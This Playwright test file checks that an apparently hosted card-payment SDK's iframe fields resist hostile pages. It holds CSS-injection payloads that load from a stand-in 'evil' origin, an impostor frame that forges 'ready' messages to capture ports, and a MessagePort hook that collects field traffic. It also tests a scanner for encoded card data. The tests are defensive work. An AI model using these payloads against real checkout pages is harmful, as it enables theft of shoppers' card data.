/** What surrounds the card fields may be forged; the fields stay as they are. */

import type { BrowserContext, Page } from "@playwright/test";
import { tracesOf } from "../support/hostile/card_traces.ts";
import { expect, test } from "../support/hostile/test.ts";
import { around, CARD, FIELDS, hosted, type Kind, Victim } from "../support/hostile/victims.ts";

/** Every way to have CSS load something, or to depend on what was typed. */
const STYLES = (evil: string) => ({
  sheet: `@import url(${evil}/import); input[value^="2"] { background: url(${evil}/starts-with-2) }`,
  stylesheets: [`${evil}/sheet`],
  fontFaces: [{ fontFamily: "Evil", src: `url(${evil}/face)` }],
  base: {
    background: `url(${evil}/background)`,
    backgroundColor: `red; background: url(${evil}/smuggled)`,
    backgroundImage: `image-set("${evil}/set" 1x)`,
    borderImage: `url(${evil}/border) 1`,
    border: `1px solid red; list-style: url(${evil}/list)`,
    color: `red } @import url(${evil}/import); input[value^="2"] { background: url(${evil}/closed) }`,
    content: `url(${evil}/content)`,
    cursor: `url(${evil}/cursor), auto`,
    fontFamily: `Evil; } @font-face { font-family: Evil; src: url(${evil}/font) } x {`,
    outline: `\\75\\72\\6c (${evil}/escaped) solid`,
    boxShadow: `0 0 url(${evil}/shadow)`,
    textShadow: `-webkit-image-set(url(${evil}/image-set) 1x)`,
    maskImage: `url(${evil}/mask)`,
    filter: `url(${evil}/filter#x)`,
    "--color": `url(${evil}/variable)`,
    "} input[value^='2']": `{ background: url(${evil}/name) }`,
    cssText: `background: url(${evil}/css-text)`,
  },
  placeholder: { color: `red; background: url(${evil}/placeholder)`, background: `url(${evil}/p)` },
  selection: { backgroundColor: `url(${evil}/selection)`, color: `red } @import "${evil}/s"` },
  focus: { background: `url(${evil}/focus)` },
  hover: { background: `url(${evil}/hover)` },
  error: { background: `url(${evil}/error)` },
});

for (const { kind, loads } of [
  { kind: "tender", loads: false },
  { kind: "careless", loads: true },
] satisfies { kind: Kind; loads: boolean }[]) {
  test(`styles make ${kind} fields load ${loads ? "something" : "nothing"}`, async ({ stage }) => {
    const evil = `${stage.elsewhere.origin}/evil`;
    const requests = requestsOf(stage.page.context());
    const style = JSON.stringify(STYLES(evil)).replaceAll("<", "\\u003c");
    const victim = await Victim.open(kind, stage, `window.style = ${style};`);
    await victim.type();
    await victim.input("cardNumber").hover();
    await victim.input("cardNumber").press("ControlOrMeta+A");
    await settled(stage.page);
    expect(requests.some((address) => address.startsWith(evil))).toBe(loads);
  });
}

for (const { kind, taken } of [
  { kind: "tender", taken: false },
  { kind: "careless", taken: true },
] satisfies { kind: Kind; taken: boolean }[]) {
  const does = taken ? "hands its port to" : "does not answer";
  test(`a page with ${kind} fields ${does} a frame that says it is a field`, async ({ stage }) => {
    const { page, elsewhere } = stage;
    await Victim.open(kind, stage);
    const checkouts = await page.$$eval("iframe", (frames) =>
      frames.map(({ src }) => /#(.*)\./.exec(src)?.[1] ?? ""),
    );
    const names = FIELDS.flatMap((field) => checkouts.map((checkout) => ({ checkout, field })));
    const impostor = elsewhere.add(`/impostor/${crypto.randomUUID()}`, IMPOSTOR(names));
    const answer = page.evaluate(waitForImpostor, impostor);
    expect(await answer).toBe(taken);
  });
}

/** Says `ready` as every field there is, then tells whether it was ever answered. */
const IMPOSTOR = (names: object[]) => `<script>
  let ports = 0;
  addEventListener("message", ({ data, ports: [port], source }) => {
    if (data === "answered?") source.postMessage({ answered: ports > 0 }, "*");
    else if (port) ports += 1;
  });
  for (const name of ${JSON.stringify(names)}) {
    parent.postMessage({ tender: "ready", ...name }, "*");
  }
</script>`;

/** Messages keep their order: whoever answers a `ready` has done so before the question. */
async function waitForImpostor(address: string): Promise<boolean> {
  const frame = document.createElement("iframe");
  frame.src = address;
  document.body.append(frame);
  await new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
  for (const name of ["cardNumber", "expiryDate", "cvv"]) {
    window.postMessage({ tender: "ready", checkout: "checkout", field: name }, "*");
  }
  return await new Promise((resolve) => {
    addEventListener("message", ({ data }) => {
      if (data.answered !== undefined) resolve(data.answered);
      else if (data.asked) frame.contentWindow?.postMessage("answered?", "*");
    });
    window.postMessage({ asked: true }, "*");
  });
}

test("a page of Tender's own origin gets no field that can be typed into", async ({ stage }) => {
  const { page, tender, merchant } = stage;
  const { clientToken } = await merchant.createSession();
  const address = `${tender.url}/a-shop`;
  await page.route(address, (route) =>
    route.fulfill({ contentType: "text/html", body: around(hosted(tender.sdkUrl, clientToken)) }),
  );
  const refused = page.waitForEvent("pageerror");
  await page.goto(address);
  expect((await refused).message).toContain("another origin than Tender");
  for (const field of FIELDS) {
    await expect(page.frameLocator(`#${field} iframe`).locator("#field")).toBeDisabled();
  }
  // This is why: such a page reads what it likes.
  expect(await page.evaluate(() => frames[0]?.document.querySelector("input")?.value)).toBe("");
});

test("another page of Tender's own origin cannot be put beside the fields", async ({ stage }) => {
  const { page, tender, site } = stage;
  const refused = page.waitForEvent("console", (message) =>
    message.text().includes("frame-ancestors"),
  );
  await page.goto(site.add("/beside", `<iframe src="${tender.url}/reference/"></iframe>`));
  await refused;
});

test("a page of Tender's own origin loads nothing that a stranger's address names", async ({
  stage,
}) => {
  const { page, tender, elsewhere } = stage;
  const evil = elsewhere.add("/evil.json", '{"openapi":"3.1.0","info":{"title":"Evil"}}');
  const requests = requestsOf(page.context());
  const query = new URLSearchParams({ url: evil, configUrl: evil, "urls.primaryName": evil });
  await page.goto(`${tender.url}/reference/?${query}#/${evil}`);
  await expect(page.getByRole("heading", { name: /Tender/ })).toBeVisible();
  expect(requests).toContain(`${tender.url}/openapi.json`);
  expect(requests).not.toContain(evil);
});

test("the text of a field cannot be dragged, whatever the browser lets pass", async ({ stage }) => {
  const victim = await Victim.open("tender", stage);
  await victim.type();
  for (const field of FIELDS) {
    const started = await victim
      .input(field)
      .evaluate((input) =>
        input.dispatchEvent(new DragEvent("dragstart", { bubbles: true, cancelable: true })),
      );
    expect(started, field).toBe(false);
  }
});

test("what a page hears while a card is typed does not depend on its digits", async ({ stage }) => {
  expect(await heardOf("tender", "4242424242424242")).toEqual(
    await heardOf("tender", "4111111111111111"),
  );
  expect(await heardOf("careless", "4242424242424242")).not.toEqual(
    await heardOf("careless", "4111111111111111"),
  );

  async function heardOf(kind: Kind, number: string) {
    const victim = await Victim.open(kind, stage, `(${takeDownReports})();`);
    await victim.type({ ...CARD, number });
    if (kind === "tender") await stage.page.waitForFunction(allIsTold);
    return await stage.page.evaluate(() =>
      // When the server's answer comes is not the page's doing.
      (window.loot as string[][])
        .map((reports) => reports.filter((report) => !report.includes("networks")))
        .sort(),
    );
  }
});

/** The card is complete, and the focus where it was last. */
function allIsTold(): boolean {
  const last = (window.loot as string[][]).map((reports) =>
    JSON.parse(reports.findLast((report) => report.includes("change")) ?? "{}"),
  );
  // The frame that keeps the card says nothing of fields.
  const states = last.flatMap(({ state }) => state ?? []);
  const active = states.filter(({ active }) => active).length;
  return states.length === 3 && states.every(({ fault }) => fault === null) && active === 1;
}

/** What comes from each field, which are ready in no certain order. */
function takeDownReports(): void {
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
  Object.defineProperty(MessagePort.prototype, "onmessage", {
    set(listener) {
      const reports: string[] = [];
      window.loot.push(reports);
      onmessage?.set?.call(this, (event: MessageEvent) => {
        reports.push(JSON.stringify(event.data));
        listener.call(this, event);
      });
    },
  });
}

test("the fields of two checkouts in one page do not mix", async ({ stage }) => {
  const { page, site, tender, merchant } = stage;
  const tokens = [await merchant.createSession(), await merchant.createSession()];
  const body = tokens.map(({ clientToken }, index) =>
    hosted(tender.sdkUrl, clientToken)
      .replaceAll("window.", `window.own${index}.`)
      .replaceAll(/render\("#(\w+)"/g, `render("#$1${index}"`)
      .replace("const { style } = window;", "const style = undefined;"),
  );
  const places = [0, 1].flatMap((index) =>
    FIELDS.map((field) => `<div id="${field}${index}"></div>`),
  );
  const first = "window.own0 = {}; window.own1 = {};";
  const html = around(places.join("") + body.join(""), first);
  await page.goto(site.add("/two", html));
  await page.waitForFunction(() => [0, 1].every((n) => Reflect.get(window, `own${n}`).opened));

  const cards = [CARD, { ...CARD, number: "5555555555554444", cvv: "999" }];
  // The second form is typed first, and the fields of both in turns.
  for (const field of FIELDS) {
    for (const index of [1, 0]) {
      const { number, month, year, cvv } = cards[index] ?? CARD;
      const text = { cardNumber: number, expiryDate: month + year, cvv }[field];
      const input = page.frameLocator(`#${field}${index} iframe`).locator("#field");
      await input.pressSequentially(text);
    }
  }
  const outcomes = await page.evaluate(async () => {
    const own = [0, 1].map((index) => Reflect.get(window, `own${index}`));
    await Promise.all(own.map(({ pay }) => pay()));
    return own.map(({ outcome }) => outcome.payment.paymentMethodData.last4Digits);
  });
  expect(outcomes).toEqual(["4574", "4444"]);
});

test("a page that takes a field off and puts it back gets an empty one", async ({ stage }) => {
  const victim = await Victim.open("tender", stage);
  await victim.type();
  await stage.page.evaluate(() => {
    const frame = document.querySelector("iframe");
    frame?.parentElement?.append(frame);
  });
  await expect(victim.input("cardNumber")).toHaveValue("");
});

test("the scanner finds a card in every disguise", () => {
  const { number, month, year, cvv } = CARD;
  const disguises = [
    number,
    "2222 6904 2…",
    "90-42-0",
    [...number].reverse().join(""),
    `{"cvv":"${cvv}"}`,
    `code=${cvv}&`,
    `${month} / ${year}`,
    `20${year}-${month}`,
    `"expiry":"${month}${year}"`,
    Buffer.from(`{"number":"${number}"}`).toString("base64"),
    Buffer.from(`x${number}`).toString("hex"),
    JSON.stringify([...Buffer.from(number)]),
    `"last4Digits":"4574","pan":"22226904"`,
  ];
  for (const disguise of disguises) expect(tracesOf(CARD, disguise), disguise).not.toEqual([]);
  const innocent = [
    `{"first6Digits":"222269","last4Digits":"4574","expirationMonth":"11","expirationYear":"2031"}`,
    `"{\\"first6Digits\\":\\"222269\\"}"`,
    "01a1fbd3-c589-73d7-bbce-a58cc7ef7d97 2026-11-21T04:44:05.739131 1795236145123 4900",
  ];
  for (const text of innocent) expect(tracesOf(CARD, text), text).toEqual([]);
});

/** The addresses of all requests of a browser context, from now on. */
function requestsOf(context: BrowserContext): string[] {
  const addresses: string[] = [];
  context.on("request", (request) => addresses.push(request.url()));
  return addresses;
}

/** Styles are computed and painted, and what they load was asked for. */
async function settled(page: Page): Promise<void> {
  // The frame that keeps the card is never painted.
  for (const frame of page.frames().filter((frame) => !frame.url().endsWith(".card"))) {
    await frame.evaluate(
      () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
    );
  }
}
